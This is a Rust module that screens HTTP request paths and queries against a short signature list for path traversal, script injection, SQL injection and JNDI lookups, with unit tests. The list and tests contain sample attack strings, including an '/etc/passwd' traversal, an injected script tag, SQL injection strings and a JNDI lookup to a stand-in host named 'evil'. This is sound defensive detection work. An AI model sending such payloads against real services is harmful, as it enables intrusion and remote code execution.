//! Attack-signature screening of request targets.
//!
//! The path and query are percent-decoded once, lowercased, and matched
//! against a short list of signatures for path traversal, script injection,
//! SQL injection, and JNDI lookups.

const SIGNATURES: &[&str] = &[
    // path traversal
    "../",
    "..\\",
    "/etc/passwd",
    "/proc/self/",
    // script injection
    "<script",
    "javascript:",
    "onerror=",
    // sql injection
    "' or '1'='1",
    "' or 1=1",
    "union select",
    "; drop table",
    "sleep(",
    // jndi
    "${jndi:",
];

fn hex_value(digit: u8) -> u8 {
    match digit {
        b'0'..=b'9' => digit - b'0',
        b'a'..=b'f' => digit - b'a' + 10,
        _ => digit - b'A' + 10,
    }
}

/// Decodes `%XX` escapes and `+`; invalid escapes are kept verbatim.
fn percent_decode(input: &str) -> String {
    let bytes = input.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;

    while i < bytes.len() {
        match bytes[i] {
            b'%' if i + 2 < bytes.len()
                && bytes[i + 1].is_ascii_hexdigit()
                && bytes[i + 2].is_ascii_hexdigit() =>
            {
                out.push(hex_value(bytes[i + 1]) << 4 | hex_value(bytes[i + 2]));
                i += 3;
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }

    String::from_utf8_lossy(&out).into_owned()
}

fn matches_signature(raw: &str) -> bool {
    let decoded = percent_decode(raw).to_ascii_lowercase();
    SIGNATURES.iter().any(|sig| decoded.contains(sig))
}

pub fn is_suspicious(path: &str, query: Option<&str>) -> bool {
    matches_signature(path) || query.is_some_and(matches_signature)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_clean_requests_pass() {
        assert!(!is_suspicious("/api/subjects", Some("search=math&page=2")));
        assert!(!is_suspicious("/", None));
        assert!(!is_suspicious("/api/subjects", Some("search=100%25")));
    }

    #[test]
    fn test_path_traversal() {
        assert!(is_suspicious("/api/../../etc/passwd", None));
        assert!(is_suspicious("/api/subjects", Some("file=..%2F..%2Fsecret")));
    }

    #[test]
    fn test_script_injection() {
        assert!(is_suspicious(
            "/api/subjects",
            Some("search=%3CScript%3Ealert(1)%3C/script%3E")
        ));
    }

    #[test]
    fn test_sql_injection() {
        assert!(is_suspicious("/api/subjects", Some("search=x'+UNION+SELECT+password")));
        assert!(is_suspicious("/api/subjects", Some("id=1'%20or%20'1'='1")));
    }

    #[test]
    fn test_jndi_lookup() {
        assert!(is_suspicious("/", Some("q=${jndi:ldap://evil/a}")));
    }

    #[test]
    fn test_percent_decode_keeps_invalid_escapes() {
        assert_eq!(percent_decode("100%"), "100%");
        assert_eq!(percent_decode("%zz"), "%zz");
        assert_eq!(percent_decode("a%20b+c"), "a b c");
    }

    #[test]
    fn test_percent_decode_requires_two_hex_digits() {
        assert_eq!(percent_decode("%+1"), "% 1");
        assert_eq!(percent_decode("%-1"), "%-1");
        assert_eq!(percent_decode("%2"), "%2");
        assert_eq!(percent_decode("%2F%2e%2E"), "/..");
    }
}
